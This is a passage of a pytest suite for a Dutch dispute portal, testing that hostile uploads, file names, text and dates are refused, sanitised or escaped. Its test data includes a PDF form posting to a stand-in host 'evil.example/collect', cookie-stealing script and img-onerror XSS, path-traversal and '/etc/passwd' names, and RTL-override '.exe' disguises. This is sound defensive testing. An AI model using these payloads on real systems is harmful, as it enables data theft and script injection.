"""The hostile-input suite of quality.md (Uploads; Text, dates, PDFs), through the real HTTP
endpoints and the services. Only what tests/integration/test_uploads.py and test_portal_uploads.py
do not already cover: polyglots, active content hidden in other places, truncation near the end,
file names a hostile client sends raw, markup in every text field up to the letters and the
dossier, NUL bytes, oversized text, too many fields and files, and impossible or out-of-order dates.

Every refusal is a clear Dutch message on the field (never a 500) and leaves nothing half-written:
no Document row and no file in this test's own storage folder.
"""

import re
from datetime import date

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape
from viewflow.workflow.models import Task

from disputes import clock, letterbook, services
from disputes.dossier import export_dossier
from disputes.models import Dispute, DisputeEvent, Document, EffortEntry, PointPosition
from tests.factories import case_in_state, moment, pdf, pdf_bytes

from . import helpers as h

pytestmark = pytest.mark.django_db

XHR = {"HTTP_X_REQUESTED_WITH": "XMLHttpRequest", "HTTP_ACCEPT": "application/json"}
DAMAGED = "beschadigd of onvolledig"
ACTIVE = "actieve inhoud"
NOT_PDF = "Alleen PDF-bestanden"


@pytest.fixture(autouse=True)
def _small_limits(settings):
    settings.MAX_UPLOAD_BYTES = 1024 * 1024
    settings.WORKFLOW_STRICT = True


# == Uploads ==========================================================================================
#: (what, file name, content, message). Each is refused by every endpoint that takes files.
UPLOAD_REFUSALS = [
    ("%PDF-kop met HTML en script erachter", "pagina.pdf",
     b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n", DAMAGED),
    ("ZIP met %PDF--voorvoegsel", "brief.pdf", b"%PDF-1.4\n" + h.a_zip(), DAMAGED),
    ("PDF met een ZIP erachter (polyglot)", "dubbel.pdf", pdf_bytes(1) + h.a_zip(), DAMAGED),
    ("PNG met .pdf-naam", "scan.pdf", h.PNG, NOT_PDF),
    ("afgekapt op 70%", "half.pdf", pdf_bytes(5)[: int(len(pdf_bytes(5)) * 0.7)], DAMAGED),
    ("afgekapt vlak voor %%EOF", "bijna.pdf", pdf_bytes(2)[:-30], DAMAGED),
    ("Launch-actie in een link (indirect)", "link.pdf", h.modified(h.launch_link), ACTIVE),
    ("formulier verstuurt gegevens (SubmitForm)", "form.pdf",
     h.modified(h.action_link("SubmitForm", F=pikepdf.String("https://evil.example/collect"))), ACTIVE),
    ("gegevens inlezen uit een bestand (ImportData)", "import.pdf",
     h.modified(h.action_link("ImportData", F=pikepdf.String("gegevens.fdf"))), ACTIVE),
    ("ander bestand openen (GoToR)", "ander.pdf",
     h.modified(h.action_link("GoToR", F=pikepdf.String("\\\\server\\share\\x.pdf"), D=pikepdf.Array([0]))),
     ACTIVE),
    ("ingesloten bestand als bijlage-annotatie", "bijlage.pdf", h.modified(h.embedded_file_attachment), ACTIVE),
    ("ingesloten bestand zonder /Type", "bijlage2.pdf", h.modified(h.embedded_file_untyped), ACTIVE),
    ("XFA als array", "xfa.pdf", h.modified(h.xfa_array), ACTIVE),
    ("RichMedia-annotatie", "film.pdf", h.modified(h.rich_media), ACTIVE),
    ("RichMedia alleen als /Subtype", "film2.pdf", h.modified(h.rich_media_subtype_only), ACTIVE),
    ("OpenAction met JavaScript in een stream", "open.pdf", h.modified(h.open_action_js_stream), ACTIVE),
    ("JavaScript bij het openen van een pagina", "pagina-aa.pdf", h.modified(h.page_open_js), ACTIVE),
    ("JavaScript in de Names-boom", "names.pdf", h.modified(h.names_javascript), ACTIVE),
    ("JavaScript in een objectstream", "objstm.pdf", h.js_in_object_stream(), ACTIVE),
    ("JavaScript 60 niveaus diep", "diep.pdf", h.modified(h.js_deeply_nested), ACTIVE),
    ("groter dan de limiet, PDF-kop", "groot.pdf", pdf_bytes(1) + b"%" + b"0" * (1024 * 1024), "groter dan 1 MB"),
    # more bombs and links in test_bombs.py; one of each here, through every endpoint
    ("metadata die uitpakt tot 80 MB (zip-bom)", "bom.pdf", h.metadata_bomb(80), "bij het uitpakken groter dan"),
    ("javascript:-link", "link-js.pdf",
     h.modified(h.action_link("URI", URI=pikepdf.String("javascript:app.alert(1)"))), "geen webadres"),
]
UPLOAD_IDS = [r[0] for r in UPLOAD_REFUSALS]


@pytest.fixture
def draft(world, at, client):
    at("2017-01-16 10:00")
    client.force_login(world.tenant)
    return world.file(documents=[])


@pytest.mark.parametrize(("what", "name", "content", "message"), UPLOAD_REFUSALS, ids=UPLOAD_IDS)
def test_the_portal_refuses_hostile_files_and_stores_nothing(client, draft, private_storage, what, name, content,
                                                             message):
    response = client.post(reverse("portal:draft-upload", args=[draft.pk]),
                           {"doc_type": "bod", "files": [SimpleUploadedFile(name, content, "application/pdf")]}, **XHR)
    assert response.status_code == 400, (what, response.content[:300])
    answer = response.json()
    text = " ".join([r["message"] for r in answer["results"]] + answer["errors"])
    assert message in text, (what, text)
    assert not Document.objects.filter(dispute=draft).exists()
    assert h.stored_files(private_storage) == []


def _take(client, user, dispute, name) -> Task:
    client.force_login(user)
    task = next(t for t in Task.objects.filter(process__disputeprocess__dispute=dispute, finished__isnull=True)
                if t.flow_task.name == name)
    client.post(reverse("workflow:task-assign", args=[dispute.pk, task.pk]), {"action": "take"})
    return task


def test_the_staff_document_form_refuses_every_hostile_file_on_the_field(client, world, private_storage):
    """The same table through /werk/ (one case, every file in turn: a case is expensive to build)."""
    case = case_in_state(world, "exchange")
    before_rows, before_files = Document.objects.count(), h.stored_files(private_storage)
    client.force_login(world.secretary)
    wrong = []
    for what, name, content, message in UPLOAD_REFUSALS:
        response = client.post(reverse("workflow:case-action", args=[case.pk, "document"]), {
            "document-expected_version": case.version, "document-doc_type": "correspondentie",
            "document-confidentiality": "parties",
            "document-file": SimpleUploadedFile(name, content, "application/pdf"),
        })
        errors = response.context["form"].errors.get("file", []) if response.status_code == 200 else []
        if response.status_code != 200 or message not in " ".join(errors):
            wrong.append((what, response.status_code, errors))
    assert wrong == []
    assert Document.objects.count() == before_rows
    assert h.stored_files(private_storage) == before_files
    assert Dispute.objects.get(pk=case.pk).version == case.version


def test_a_pdf_with_a_little_html_appended_is_stored_as_a_pdf_and_only_ever_served_as_an_attachment(
        client, draft, private_storage):
    """Still a valid PDF (readers ignore what follows %%EOF), so accepted; it can never be rendered as HTML."""
    content = pdf_bytes(1) + b"<html><script>alert(1)</script></html>\n"
    response = client.post(reverse("portal:draft-upload", args=[draft.pk]),
                           {"doc_type": "bod", "files": [SimpleUploadedFile("stuk.html", content, "text/html")]},
                           **XHR)
    assert response.status_code == 200, response.content
    document = Document.objects.get(dispute=draft)
    assert document.content_type == "application/pdf" and document.display_name == "stuk.html"
    download = client.get(reverse("portal:document-download", args=[draft.pk, document.pk]))
    assert download.status_code == 200
    assert download["Content-Type"] == "application/pdf"
    assert download["Content-Disposition"].startswith("attachment")
    assert download["X-Content-Type-Options"] == "nosniff" and "no-store" in download["Cache-Control"]


#: (what, the name as the client sends it, the display name stored)
HOSTILE_NAMES = [
    ("pad omhoog", "../../x.pdf", "x.pdf"),
    ("Windows-pad", "C:\\Windows\\x.pdf", "x.pdf"),
    ("absoluut pad", "/etc/passwd.pdf", "passwd.pdf"),
    ("NUL in de naam", "a\x00b.pdf", "ab.pdf"),
    ("stuurtekens", "a\x07b\x1b[31mc\x7f.pdf", "ab[31mc.pdf"),
    ("C1-stuurteken en regelscheiding", "a\x85b\u2028c\u2029.pdf", "abc.pdf"),
    ("RTL-override", "factuur\u202efdp.exe", "factuurfdp.exe"),
    ("andere bidi-tekens", "a\u061cb\u200ec\u2066d\u2069.pdf", "abcd.pdf"),
    ("tekens zonder breedte", "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg.pdf", "abcdefg.pdf"),
    ("alleen punten", "....", "document.pdf"),
    ("punten en spaties", " . . ", "document.pdf"),
    ("verborgen bestand", ".htaccess.pdf", "htaccess.pdf"),
    # Django's multipart parser drops a file whose name ends up empty: a field error, nothing stored
    ("alleen onzichtbare tekens", "\u202e\u200b\x00", None),
    ("niet-NFC", "e\u0301.pdf", "\u00e9.pdf"),
    ("markup", '<img src=x onerror=alert(1)>.pdf', '<img src=x onerror=alert(1)>.pdf'),
]


@pytest.mark.parametrize(("what", "raw", "clean"), HOSTILE_NAMES, ids=[n[0] for n in HOSTILE_NAMES])
def test_hostile_file_names_are_stored_sanitised_and_never_as_the_storage_name(client, draft, private_storage, what,
                                                                                raw, clean):
    body, content_type = h.multipart({"doc_type": "bod"}, [("files", raw, pdf_bytes(1), "application/pdf")])
    response = client.post(reverse("portal:draft-upload", args=[draft.pk]), body, content_type=content_type, **XHR)
    if clean is None:
        assert response.status_code == 400 and response.json()["fields"]["files"] == ["Kies een of meer bestanden."]
        assert not Document.objects.filter(dispute=draft).exists() and h.stored_files(private_storage) == []
        return
    assert response.status_code == 200, (what, response.content[:300])
    document = Document.objects.get(dispute=draft)
    assert document.display_name == clean, what
    assert response.json()["results"][0]["name"] == clean
    assert re.fullmatch(r"documents/[0-9a-f]{2}/[0-9a-f]{32}", document.file.name)  # generated, not the user's
    [path] = h.stored_files(private_storage)
    assert path.startswith(str(private_storage.location))
    page = client.get(reverse("portal:draft-documents", args=[draft.pk])).content.decode()
    assert escape(clean) in page and "<img src=x" not in page


def test_a_500_character_name_is_cut_to_150_and_keeps_its_extension(client, draft):
    body, content_type = h.multipart({"doc_type": "bod"}, [("files", "a" * 500 + ".pdf", pdf_bytes(1),
                                                             "application/pdf")])
    response = client.post(reverse("portal:draft-upload", args=[draft.pk]), body, content_type=content_type, **XHR)
    assert response.status_code == 200
    name = Document.objects.get(dispute=draft).display_name
    assert len(name) == 150 and name.endswith(".pdf")


def test_a_pdf_named_exe_is_judged_by_content_and_served_as_pdf(client, draft):
    """Accepted for what it is (a PDF), and downloaded as one: an attachment named ``.pdf``, never ``.exe``,
    that the browser may not sniff into anything else, with exactly the bytes that were uploaded."""
    content = pdf_bytes(1)
    response = client.post(reverse("portal:draft-upload", args=[draft.pk]), {
        "doc_type": "bod", "files": [SimpleUploadedFile("setup.exe", content, "application/x-msdownload")]}, **XHR)
    assert response.status_code == 200
    document = Document.objects.get(dispute=draft)
    assert document.content_type == "application/pdf"
    download = client.get(reverse("portal:document-download", args=[draft.pk, document.pk]))
    assert download.status_code == 200
    assert download["Content-Type"] == "application/pdf"
    assert download["Content-Disposition"] == 'attachment; filename="setup.pdf"'
    assert download["X-Content-Type-Options"] == "nosniff" and "no-store" in download["Cache-Control"]
    assert b"".join(download.streaming_content) == content


def test_more_files_than_django_accepts_in_one_request_is_a_400_not_a_500(client, draft, settings, private_storage):
    settings.DATA_UPLOAD_MAX_NUMBER_FILES = 3
    files = [SimpleUploadedFile(f"{i}.pdf", pdf_bytes(1), "application/pdf") for i in range(4)]
    response = client.post(reverse("portal:draft-upload", args=[draft.pk]), {"doc_type": "bod", "files": files})
    assert response.status_code == 400
    assert not Document.objects.filter(dispute=draft).exists() and h.stored_files(private_storage) == []


def test_too_many_form_fields_is_a_400_not_a_500(client, draft, settings):
    settings.DATA_UPLOAD_MAX_NUMBER_FIELDS = 50
    data = {"expected_version": draft.version, "points-TOTAL_FORMS": 60, "points-INITIAL_FORMS": 0}
    data.update({f"points-{i}-title": f"Punt {i}" for i in range(60)})
    response = client.post(reverse("portal:draft-points", args=[draft.pk]), data)
    assert response.status_code == 400
    assert Dispute.objects.get(pk=draft.pk).version == draft.version


def test_more_point_forms_than_the_formset_allows_is_a_message(client, draft):
    data = {"expected_version": draft.version, "points-TOTAL_FORMS": 1000, "points-INITIAL_FORMS": 0,
            "points-MIN_NUM_FORMS": 0, "points-MAX_NUM_FORMS": 100}
    data.update({f"points-{i}-title": f"Punt {i}" for i in range(101)})
    response = client.post(reverse("portal:draft-points", args=[draft.pk]), data)
    assert response.status_code == 200
    assert "100" in response.content.decode()
    assert Dispute.objects.get(pk=draft.pk).points.count() == 1


# == Text through every form: markup stored verbatim, NUL and oversized text are field errors ==========
NUL_MESSAGE = "Null-tekens zijn niet toegestaan."
TOO_LONG = re.compile(r"Gebruik ten hoogste \d+ tekens|niet meer dan \d+ tekens")
HUGE = "x" * 100_000


def _event(kind, key):
    def read(case):
        event = DisputeEvent.objects.filter(dispute=case, kind=kind).order_by("-at", "-pk").first()
        return event.payload.get(key) if event else None
    return read


def _point(attr):
    return lambda case: getattr(case.points.order_by("number").first(), attr)


def _dispute(attr):
    return lambda case: getattr(Dispute.objects.get(pk=case.pk), attr)


def _portal(name):
    return lambda case: reverse(name, args=[case.pk])


def _task(node, action, fields, *, point=False):
    """A task action under /werk/: its URL after taking the task, and its prefixed POST data."""
    prefix = f"{action}-p1" if point else action

    def data(case, value):
        values = {k: (value if v is None else v) for k, v in fields(case).items()}
        out = {"action": action, f"{prefix}-expected_version": Dispute.objects.get(pk=case.pk).version}
        out.update({f"{prefix}-{k}": v for k, v in values.items()})
        if point:
            out["point"] = 1
        return out
    return node, data


def _case_action(slug, fields):
    def data(case, value):
        values = {k: (value if v is None else v) for k, v in fields(case).items()}
        return {f"{slug}-expected_version": Dispute.objects.get(pk=case.pk).version,
                **{f"{slug}-{k}": v for k, v in values.items()}}
    return data


def _points_data(which):
    def data(case, value):
        return {"expected_version": Dispute.objects.get(pk=case.pk).version, "points-TOTAL_FORMS": 1,
                "points-INITIAL_FORMS": 0, "points-0-point_id": str(case.points.get().pk),
                "points-0-title": value if which == "title" else "Geschilpunt p1",
                "points-0-position": value if which == "position" else "Ons standpunt"}
    return data


#: (field, state, user, how to post, how to read back what was stored). ``None`` in a data dict is
#: where the hostile value goes.
TEXT_FIELDS = [
    # the party portal
    ("titel van het geschil", "draft", "tenant", ("portal", _portal("portal:draft-date"), lambda c, v: {
        "expected_version": c.version, "arose_on": "05-01-2017", "title": v}), _dispute("title")),
    ("titel van een geschilpunt", "draft", "tenant", ("portal", _portal("portal:draft-points"), _points_data("title")),
     _point("title")),
    ("standpunt bij indiening", "draft", "tenant",
     ("portal", _portal("portal:draft-points"), _points_data("position")),
     lambda c: PointPosition.objects.filter(point__dispute=c).values_list("text", flat=True).first()),
    ("samenvatting logboekregel", "draft", "tenant", ("portal", _portal("portal:draft-efforts"), lambda c, v: {
        "kind": "meeting", "occurred_on": "01-09-2016", "summary": v, "participants": "Wethouder"}),
     lambda c: EffortEntry.objects.values_list("summary", flat=True).order_by("-pk").first()),
    ("deelnemers logboekregel", "draft", "tenant", ("portal", _portal("portal:draft-efforts"), lambda c, v: {
        "kind": "meeting", "occurred_on": "01-09-2016", "summary": "Overleg", "participants": v}),
     lambda c: EffortEntry.objects.values_list("participants", flat=True).order_by("-pk").first()),
    ("toelichting bij herstel", "awaiting_remedy", "tenant", ("portal", _portal("portal:remedy"), lambda c, v: {
        "expected_version": c.version, "note": v}), _event("supply_remedy", "note")),
    ("standpunt in het verweer", "awaiting_response", "corp_user", ("portal", _portal("portal:respond"),
     lambda c, v: {"expected_version": c.version, "position_p1": v}),
     lambda c: PointPosition.objects.filter(point__dispute=c, organisation__name="Rijnhart Wonen")
     .values_list("text", flat=True).first()),
    ("reden van intrekken", "submitted", "tenant", ("portal", _portal("portal:withdraw"), lambda c, v: {
        "expected_version": c.version, "confirm": "on", "reason": v}), _event("withdraw", "reason")),
    # the staff pages: task actions
    ("reden herstel verzuim", "admissibility_review", "secretary",
     ("task", *_task("assess_admissibility", "request_remedy", lambda c: {"reason": None})),
     _event("request_remedy", "reason")),
    ("toelichting ontvankelijkheid", "admissibility_review", "secretary",
     ("task", *_task("assess_admissibility", "point_admissibility", lambda c: {"admissible": "1", "note": None},
                     point=True)), _point("admissibility_note")),
    ("motivering inspanningen", "effort_review", "secretary",
     ("task", *_task("review_efforts", "assess_efforts", lambda c: {"sufficient": "1", "reason": None})),
     _dispute("efforts_reason")),
    ("vraag om inlichtingen", "exchange", "secretary",
     ("task", *_task("plan_hearing", "request_information", lambda c: {
         "party": c.parties.get(organisation__name="Gemeente Leiderdorp").organisation_id, "question": None})),
     _event("request_information", "question")),
    ("plaats hoorzitting", "exchange", "secretary",
     ("task", *_task("plan_hearing", "schedule_hearing", lambda c: {"hearing_at": "2017-03-10T10:00", "place": None})),
     _event("schedule_hearing", "place")),
    ("reden schriftelijke afdoening", "exchange", "chair",
     ("task", *_task("choose_written_procedure", "skip_hearing", lambda c: {"reason": None})),
     _event("skip_hearing", "reason")),
    ("aanbeveling van de commissie", "deliberation", "chair",
     ("task", *_task("prepare_advice", "point_advise",
                     lambda c: {"finding": "not_manifestly_unreasonable", "recommendation": None},
                     point=True)), _point("advice_recommendation")),
    ("motivering afwijkende beslissing", "advice_issued", "official",
     ("task", *_task("draft_decision", "point_decide", lambda c: {
         "follow_advice": "0", "decision": "manifestly_unreasonable", "reason": None}, point=True)),
     _point("decision_reason")),
    # the staff pages: case actions
    ("reden verlenging", "exchange", "official",
     ("action", "verlengen", _case_action("verlengen", lambda c: {"weeks": 1, "reason": None})),
     _event("extend_decision_term", "reason")),
    ("reden verschoning", "exchange", "commission_member",
     ("action", "verschonen", _case_action("verschonen", lambda c: {"reason": None})), _event("recused", "reason")),
]


def _post(client, world, case, how, value):
    kind = how[0]
    if kind == "portal":
        _k, url, data = how
        return client.post(url(case), data(Dispute.objects.get(pk=case.pk), value))
    if kind == "task":
        _k, node, data = how
        task = Task.objects.filter(process__disputeprocess__dispute=case, finished__isnull=True)
        task = next(t for t in task if t.flow_task.name == node)
        if task.owner_id is None:
            client.post(reverse("workflow:task-assign", args=[case.pk, task.pk]), {"action": "take"})
        return client.post(reverse("workflow:task", args=[case.pk, task.pk]), data(case, value))
    _k, slug, data = how
    return client.post(reverse("workflow:case-action", args=[case.pk, slug]), data(case, value))


def _case(world, state, at):
    if state == "draft":
        at("2017-01-16 10:00")
        return world.file(documents=[])
    return case_in_state(world, state)


@pytest.mark.parametrize(("field", "state", "user", "how", "read"), TEXT_FIELDS, ids=[f[0] for f in TEXT_FIELDS])
def test_every_text_field_stores_markup_verbatim_and_refuses_nul_and_oversized_text(client, world, at, field, state,
                                                                                     user, how, read):
    case = _case(world, state, at)
    client.force_login(getattr(world, user))
    before = read(case)
    version = Dispute.objects.get(pk=case.pk).version
    for value, message in ((f"voor\x00na {field}", NUL_MESSAGE), (HUGE, TOO_LONG)):
        response = _post(client, world, case, how, value)
        assert response.status_code == 200, (field, response.status_code)
        body = response.content.decode()
        found = message in body if isinstance(message, str) else message.search(body)
        assert found and 'aria-invalid="true"' in body, (field, repr(value[:20]))
        assert Dispute.objects.get(pk=case.pk).version == version, field
        assert read(case) == before, field
    value = h.hostile(field)
    response = _post(client, world, case, how, value)
    assert response.status_code == 302, (field, response.status_code,
                                         response.context and getattr(response.context.get("form"), "errors", None))
    assert read(case) == value, field


# == Markup shown: escaped in HTML, literal in the letters and the dossier ==============================
P = h.hostile


@pytest.fixture
def hostile_case(world):
    """A decided case whose every piece of user text (and two organisation names) is hostile."""
    world.corporatie.name = P("corporatie")
    world.corporatie.save()
    world.huurders.name = P("huurders")
    world.huurders.save()
    clock.set_now(moment("2017-01-16 10:00"))
    services.effort_record(agreement=world.agreement, actor=world.tenant, kind="meeting",
                           occurred_on=date(2016, 12, 1), summary=P("samenvatting"), participants=P("deelnemers"))
    dispute = services.dispute_file(
        actor=world.tenant, agreement=world.agreement, kind="totstandkoming", applicants=[world.huurders],
        respondents=[world.corporatie, world.gemeente], arose_on=date(2017, 1, 5), title=P("titel"),
        points=[{"key": "p1", "title": P("geschilpunt"), "position": P("standpunt")}],
        documents=[pdf("verzoek")],
    )

    def step(when, call):
        clock.set_now(moment(when))
        call(Dispute.objects.get(pk=dispute.pk))

    step("2017-01-16 10:05", lambda d: services.dispute_submit(dispute=d, actor=world.tenant))
    step("2017-01-17 09:00", lambda d: services.dispute_start_review(dispute=d, actor=world.secretary))
    step("2017-01-17 09:10", lambda d: services.dispute_request_remedy(dispute=d, actor=world.secretary,
                                                                        reason=P("herstelreden")))
    step("2017-01-18 09:00", lambda d: services.dispute_supply_remedy(dispute=d, actor=world.tenant,
                                                                       note=P("hersteltoelichting")))
    step("2017-01-18 09:10", lambda d: services.point_decide_admissibility(
        point=d.points.get(), actor=world.secretary, admissible=True, note=P("ontvankelijkheid")))
    step("2017-01-18 09:20", lambda d: services.dispute_pass_admissibility(dispute=d, actor=world.secretary))
    step("2017-01-18 09:30", lambda d: services.dispute_assess_efforts(dispute=d, actor=world.secretary,
                                                                        sufficient=True, reason=P("inspanningen")))
    step("2017-01-18 09:40", lambda d: services.dispute_accept(dispute=d, actor=world.secretary))
    step("2017-01-18 09:45", lambda d: services.dispute_compose_commission(
        dispute=d, actor=world.secretary, chair=world.chair,
        members=[world.commission_member, world.commission_member2]))
    step("2017-01-20 09:00", lambda d: services.dispute_respond(dispute=d, actor=world.corp_user,
                                                                 positions={"p1": P("verweer")}))
    step("2017-01-20 10:00", lambda d: services.dispute_respond(dispute=d, actor=world.gem_user,
                                                                 positions={"p1": "Geen bezwaar"}))
    step("2017-01-23 09:00", lambda d: services.dispute_request_information(
        dispute=d, actor=world.secretary, party=world.gemeente, question=P("vraag")))
    step("2017-01-24 09:00", lambda d: services.dispute_skip_hearing(dispute=d, actor=world.chair,
                                                                      reason=P("schriftelijk")))
    step("2017-01-25 09:00", lambda d: services.point_advise(point=d.points.get(), actor=world.chair,
                                                              finding="not_manifestly_unreasonable",
                                                              recommendation=P("aanbeveling")))
    # the question to the gemeente is still open: the chair says why the commission advises all the same
    step("2017-01-25 10:00", lambda d: services.dispute_issue_advice(dispute=d, actor=world.chair,
                                                                      documents=[pdf("advies")],
                                                                      open_requests_reason=P("open vraag")))
    step("2017-02-01 09:00", lambda d: services.point_decide(point=d.points.get(), actor=world.official,
                                                              follow_advice=False, decision="manifestly_unreasonable",
                                                              reason=P("beslisreden")))
    step("2017-02-01 10:00", lambda d: services.dispute_decide(dispute=d, actor=world.official2,  # four eyes
                                                                documents=[pdf("bindende_uitspraak")]))
    dispute = Dispute.objects.get(pk=dispute.pk)
    assert dispute.state == "decided"
    return dispute


def _assert_escaped(body: str, labels, where: str):
    for danger in h.RAW_DANGER:
        assert danger not in body, (where, danger)
    missing = [label for label in labels if escape(P(label)) not in body]
    assert missing == [], (where, missing)


def _assert_stored_verbatim(hostile_case):
    point = hostile_case.points.get()
    assert hostile_case.title == P("titel") and point.title == P("geschilpunt")
    assert point.admissibility_note == P("ontvankelijkheid") and point.advice_recommendation == P("aanbeveling")
    assert point.decision_reason == P("beslisreden") and hostile_case.efforts_reason == P("inspanningen")
    assert {P("standpunt"), P("verweer")} <= set(point.positions.values_list("text", flat=True))
    entry = EffortEntry.objects.get(summary=P("samenvatting"))
    assert entry.participants == P("deelnemers")


#: page -> labels that page shows (escaped). Every page must show none of them raw.
PARTY_PAGE = ["titel", "geschilpunt", "standpunt", "verweer", "corporatie", "huurders", "herstelreden"]
STAFF_PAGE = ["titel", "geschilpunt", "standpunt", "verweer", "corporatie", "huurders", "inspanningen",
              "ontvankelijkheid", "aanbeveling", "beslisreden", "samenvatting", "deelnemers"]


def test_the_party_case_page_shows_every_hostile_text_escaped(client, world, hostile_case):
    _assert_stored_verbatim(hostile_case)  # the services keep every text as it was typed
    client.force_login(world.tenant)
    response = client.get(reverse("portal:dispute", args=[hostile_case.pk]))
    assert response.status_code == 200
    _assert_escaped(response.content.decode(), PARTY_PAGE, "portaal")
    efforts = client.get(reverse("portal:case-efforts", args=[hostile_case.pk]))
    _assert_escaped(efforts.content.decode(), ["samenvatting", "deelnemers"], "logboek")


def test_the_staff_case_page_shows_every_hostile_text_escaped(client, world, hostile_case):
    client.force_login(world.secretary)
    response = client.get(reverse("workflow:case", args=[hostile_case.pk]))
    assert response.status_code == 200
    _assert_escaped(response.content.decode(), STAFF_PAGE, "werk")
    worklist = client.get(reverse("workflow:worklist")).content.decode()
    for danger in h.RAW_DANGER:
        assert danger not in worklist


def _literal(label: str) -> str:
    """The hostile text as a PDF must print it, without the RTL override (no glyph for it)."""
    return h.squash(P(label).replace(h.RTL, ""))


def _letter_text(content: bytes) -> str:
    # the letters' font has no glyph for the RTL override: it comes out as .notdef (read back as NUL)
    return h.squash(h.pdf_text(content).replace(h.RTL, "").replace("\x00", ""))


#: letter kind -> labels it prints (disputes/letterbook.py)
LETTER_TEXT = {
    "ontvangstbevestiging": ["geschilpunt", "corporatie", "huurders"],
    "verzoek_herstel": [],  # once supplied, the remedy deadline's note reads "hersteld": see the next test
    "mededeling_ontvankelijkheid": ["geschilpunt"],  # (the addressee block is narrow: a long name wraps anywhere)
    "niet_ontvankelijk": ["geschilpunt"],  # reasons per point, in words (Awb 3:46)
    "uitnodiging_verweer": ["geschilpunt", "huurders"],
    "vraag_inlichtingen": [],  # its question is the party's question text: see the information tests
    "uitnodiging_hoorzitting": [],
    "verslag_hoorzitting": [],
    "verlengingsbericht": ["corporatie", "huurders"],  # the addressees (BTIV art. 40 lid 2)
    "aanbieding_advies": ["geschilpunt", "corporatie", "huurders"],
    "bindende_uitspraak": ["geschilpunt", "beslisreden"],
    "mededeling_intrekking": ["huurders"],  # the applicants the case goes on for
    "herstelbesluit": [],  # prints what was corrected, a text of its own: see the aftercare tests
    "mededeling_schikking": [],
}


def test_the_letters_print_hostile_text_literally(client, world, hostile_case):
    """Every letter kind (one case for all: building it is the expensive part)."""
    assert sorted(LETTER_TEXT) == sorted(letterbook.KINDS)
    client.force_login(world.secretary)
    missing = []
    for kind, labels in LETTER_TEXT.items():
        response = client.get(reverse("workflow:letter", args=[hostile_case.pk, kind]))
        assert response.status_code == 200 and response["Content-Type"] == "application/pdf", kind
        text = _letter_text(response.content)
        missing += [(kind, label) for label in labels if _literal(label) not in text]
    assert missing == [], missing


@pytest.mark.parametrize(("state", "call", "kind", "label"), [
    ("admissibility_review", lambda w, d: services.dispute_request_remedy(
        dispute=d, actor=w.secretary, reason=P("herstelreden")), "verzoek_herstel", "herstelreden"),
    ("exchange", lambda w, d: services.dispute_schedule_hearing(
        dispute=d, actor=w.secretary, hearing_at=moment("2017-03-10 10:00"), place=P("plaats")),
     "uitnodiging_hoorzitting", "plaats"),
], ids=["herstelreden", "plaats hoorzitting"])
def test_the_letters_of_a_running_case_print_hostile_text_literally(client, world, state, call, kind, label):
    case = case_in_state(world, state)
    call(world, case)
    client.force_login(world.secretary)
    response = client.get(reverse("workflow:letter", args=[case.pk, kind]))
    assert _literal(label) in _letter_text(response.content)


DOSSIER_TEXT = ["titel", "geschilpunt", "standpunt", "verweer", "corporatie", "huurders", "ontvankelijkheid",
                "aanbeveling", "beslisreden"]


def test_the_dossier_prints_hostile_text_literally(hostile_case, tmp_path):
    result = export_dossier(hostile_case, tmp_path / "out")
    with open(result["pdf"], "rb") as handle:
        raw = handle.read()
    # the dossier replaces characters its font lacks (the RTL override) with "?"
    text = h.squash(h.pdf_text(raw).replace("?fdp.exe", "fdp.exe"))
    missing = [label for label in DOSSIER_TEXT if _literal(label) not in text]
    assert missing == [], missing


# == Dates ==========================================================================================
INVALID_PORTAL = "Vul een bestaande datum in"
FUTURE = "Deze datum ligt in de toekomst."
TOO_EARLY = "vóór 1 juli 2015"
INVALID_STAFF = "Voer een geldige datum in."
AFTER_TODAY = "De termijn moet na vandaag eindigen."
FAR_AHEAD = "ten hoogste een jaar"
HEARING_PAST = "De hoorzitting moet in de toekomst liggen."
INVALID_MOMENT = "Voer een geldige datum/tijd in."

#: (what, value, message) for a portal date (arose_on, an effort's date); the clock stands at 16-01-2017
PORTAL_DATES = [
    ("30 februari", "30-02-2017", INVALID_PORTAL),
    ("30 februari ISO", "2017-02-30", INVALID_PORTAL),
    ("maand 13", "01-13-2016", INVALID_PORTAL),
    ("jaar 0001", "0001-01-01", TOO_EARLY),
    ("jaar 9999", "31-12-9999", FUTURE),
    ("vijfcijferig jaar", "01-01-10000", INVALID_PORTAL),
    ("morgen", "17-01-2017", FUTURE),
    ("vóór de Woningwet 2015", "30-06-2015", TOO_EARLY),
    ("tekst", "gisteren", INVALID_PORTAL),
    ("NUL", "05-01\x00-2017", INVALID_PORTAL),
]

PORTAL_DATE_FORMS = [
    ("ontstaan op", "portal:draft-date", lambda c, v: {"expected_version": c.version, "arose_on": v, "title": "T"}),
    ("logboekdatum", "portal:draft-efforts", lambda c, v: {"kind": "meeting", "occurred_on": v, "summary": "S"}),
]


@pytest.mark.parametrize(("form", "url", "data"), PORTAL_DATE_FORMS, ids=[f[0] for f in PORTAL_DATE_FORMS])
def test_impossible_far_and_future_dates_are_field_errors_in_the_portal(client, draft, form, url, data):
    wrong = []
    for what, value, message in PORTAL_DATES:
        response = client.post(reverse(url, args=[draft.pk]), data(Dispute.objects.get(pk=draft.pk), value))
        body = response.content.decode() if response.status_code == 200 else ""
        if message not in body or 'aria-invalid="true"' not in body:
            wrong.append((what, response.status_code))
    assert wrong == [], form
    assert Dispute.objects.get(pk=draft.pk).version == draft.version and not EffortEntry.objects.exists()


#: (what, value, message) for a deadline a staff member chooses; the clock stands at 17-01-2017 09:00
STAFF_DEADLINES = [
    ("30 februari", "2017-02-30", INVALID_STAFF),
    ("jaar 0001", "0001-01-01", AFTER_TODAY),
    ("gisteren", "2017-01-16", AFTER_TODAY),
    ("vandaag", "2017-01-17", AFTER_TODAY),
    ("jaar 9999", "9999-12-31", FAR_AHEAD),
    ("over twee jaar", "2019-01-17", FAR_AHEAD),
]
#: the same for the hearing (a moment, Europe/Amsterdam); the clock stands at 20-02-2017 09:00
HEARING_MOMENTS = [
    ("30 februari", "2017-02-30T10:00", INVALID_MOMENT),
    ("25 uur", "2017-03-01T25:00", INVALID_MOMENT),
    ("jaar 0001", "0001-01-01T00:00", HEARING_PAST),
    ("gisteren", "2017-02-19T10:00", HEARING_PAST),
    ("zojuist", "2017-02-20T08:59", HEARING_PAST),
    ("jaar 9999", "9999-12-31T23:59", FAR_AHEAD),
]

STAFF_DATE_FORMS = [
